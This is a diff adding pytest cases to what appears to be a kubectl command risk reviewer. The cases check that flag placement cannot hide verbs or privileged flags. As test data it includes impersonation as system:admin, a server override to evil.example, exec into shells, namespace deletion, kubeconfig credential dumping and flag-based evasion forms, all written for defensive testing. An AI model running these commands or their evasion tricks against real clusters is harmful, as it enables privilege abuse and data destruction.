@@ -244,6 +244,78 @@ def test_blast_radius_reads_the_parsed_command(command: str, risk: Risk) -> None
     vote = asyncio.run(builtin_panel(allowed, ("blast-radius",))[0].review(
         ReviewInput("ns", "r", "test", "alice", "do it", (command,))))
     assert vote.risk is risk, (command, vote.rationale)
+# ----------------------------------------------------------- flags that hide verbs or flags
+
+@pytest.mark.parametrize(("command", "risk"), [
+    # -p is logs' --previous, -f its --follow: neither takes the identity or server flag after it
+    ("kubectl logs -p --as=system:admin web -n apps", Risk.CRITICAL),
+    ("kubectl logs -f --server=http://evil.example web -n apps", Risk.HIGH),
+    ("kubectl logs web --prefix --as=system:admin -n apps", Risk.CRITICAL),
+    # boolean flags the tables had as taking a value
+    ("kubectl get pods --show-kind --token=abc -n apps", Risk.HIGH),
+    ("kubectl top pod --containers --as=system:admin -n apps", Risk.CRITICAL),
+    ("kubectl config view --raw --context=prod", Risk.HIGH),
+    # a value flag followed by a flag: kubectl takes it as the value, the worse reading counts
+    ("kubectl get pods -o --as=system:admin -n apps", Risk.CRITICAL),
+    ("kubectl get pods --selector --as=system:admin -n apps", Risk.CRITICAL),
+    ("kubectl get pods --raw --as=system:admin", Risk.CRITICAL),
+])
+def test_a_flag_is_not_swallowed_as_the_value_of_the_flag_before_it(command: str,
+                                                                     risk: Risk) -> None:
+    assert command_risk(command)[0] is risk, command_risk(command)
+
+
+def test_config_view_raw_is_rated_with_the_flags_after_it() -> None:
+    _, reasons = command_risk("kubectl config view --raw --context=prod")
+    assert "prints credentials from the kubeconfig" in reasons
+    assert any("--context acts as another identity" in r for r in reasons)
+
+
+@pytest.mark.parametrize(("command", "risk"), [
+    ("kubectl get pods --show-kind -A", Risk.HIGH),
+    ("kubectl exec -itn kube-system web -- sh", Risk.CRITICAL),
+    ("kubectl --wait ns delete prod", Risk.HIGH),
+    ("kubectl -i kube-system delete pod x", Risk.CRITICAL),
+])
+def test_blast_radius_reads_every_reading_of_the_flags(command: str, risk: Risk) -> None:
+    vote = asyncio.run(builtin_panel(allowed, ("blast-radius",))[0].review(
+        ReviewInput("ns", "r", "test", "alice", "do it", (command,))))
+    assert vote.risk is risk, (command, vote.rationale)
+
+
+@pytest.mark.parametrize(("command", "risk"), [
+    # kubectl finds the command first, taking the word after any flag that is not a global
+    # boolean one as that flag's value: these run exec, proxy, delete
+    ("kubectl -i get exec -- sh -c id", Risk.CRITICAL),
+    ("kubectl -t version exec -- sh", Risk.CRITICAL),
+    ("kubectl -A get exec web -- sh", Risk.CRITICAL),
+    ("kubectl -w get proxy", Risk.HIGH),
+    ("kubectl --wait events delete x -n apps", Risk.CRITICAL),
+    ("kubectl -q version delete ns prod", Risk.CRITICAL),
+    ("kubectl --force get delete ns prod", Risk.CRITICAL),
+    ("kubectl -n apps --show-kind api-resources certificate approve csr-1", Risk.CRITICAL),
+    ("kubectl '' delete ns prod", Risk.CRITICAL),
+    ("kubectl -R ns label prod pod-security.kubernetes.io/enforce=privileged", Risk.HIGH),
+])
+def test_a_flag_before_the_verb_cannot_hide_it(command: str, risk: Risk) -> None:
+    assert command_risk(command)[0] is risk, command_risk(command)
+    vote = asyncio.run(builtin_panel(allowed, ("destructive",))[0].review(
+        ReviewInput("ns", "r", "test", "alice", "do it", (command,))))
+    assert vote.verdict is Verdict.REJECT and "Destructive" in vote.flags
+
+
+def test_the_reason_names_the_reading_that_is_worse() -> None:
+    _, reasons = command_risk("kubectl -i get exec -- sh -c id")
+    assert "'get' is routine (low)" in reasons
+    assert any("'exec' is destructive" in r and "'kubectl exec get'" in r for r in reasons)
+
+
+def test_a_command_whose_flags_cannot_all_be_read_is_high() -> None:
+    flags = " ".join(f"--x{i} v{i}" for i in range(12))
+    risk, reasons = command_risk(f"kubectl get pods {flags}")
+    assert risk is Risk.HIGH and any("too many ways" in r for r in reasons)
+
+
 # ------------------------------------------------------------------- kubectl's aliases
 
 # kubectl create's subcommands and the other names cobra accepts for them (`kubectl create
